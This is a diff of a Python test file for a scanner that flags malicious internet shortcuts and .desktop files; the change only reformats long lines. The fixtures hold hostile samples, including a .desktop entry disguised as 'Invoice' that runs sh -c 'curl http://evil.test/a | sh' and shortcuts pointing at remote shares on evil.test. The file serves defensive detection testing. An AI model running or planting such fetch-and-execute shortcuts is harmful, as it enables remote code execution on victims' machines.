@@ -9,12 +9,17 @@ from unhook.files.scanners.internet_shortcut import SCANNER
 
 
 def test_an_address_and_an_icon_elsewhere() -> None:
-    found = ask(SCANNER, b"[InternetShortcut]\r\nURL=https://evil.test/in\r\nIconFile=\\\\evil.test\\a\\b.ico\r\n")
+    found = ask(
+        SCANNER, b"[InternetShortcut]\r\nURL=https://evil.test/in\r\nIconFile=\\\\evil.test\\a\\b.ico\r\n"
+    )
     assert [(each.url, each.how) for each in found.references] == [
         ("https://evil.test/in", "shortcut"),
         ("\\\\evil.test\\a\\b.ico", "shortcut icon"),
     ]
-    assert signs(found) == {"shortcut-remote": "https://evil.test/in", "shortcut-share": "\\\\evil.test\\a\\b.ico"}
+    assert signs(found) == {
+        "shortcut-remote": "https://evil.test/in",
+        "shortcut-share": "\\\\evil.test\\a\\b.ico",
+    }
 
 
 @pytest.mark.parametrize("target", ["file://203.0.113.9/share/run.exe", "\\\\evil.test\\share\\run.js"])
@@ -34,5 +39,7 @@ def test_webloc(form: plistlib.PlistFormat) -> None:
 
 
 def test_a_command_of_linux() -> None:
-    found = ask(SCANNER, b"[Desktop Entry]\nName=Invoice\nExec=sh -c 'curl http://evil.test/a | sh'\n", "a.desktop")
+    found = ask(
+        SCANNER, b"[Desktop Entry]\nName=Invoice\nExec=sh -c 'curl http://evil.test/a | sh'\n", "a.desktop"
+    )
     assert signs(found)["shortcut-command"] == "sh -c 'curl http://evil.test/a | sh'"
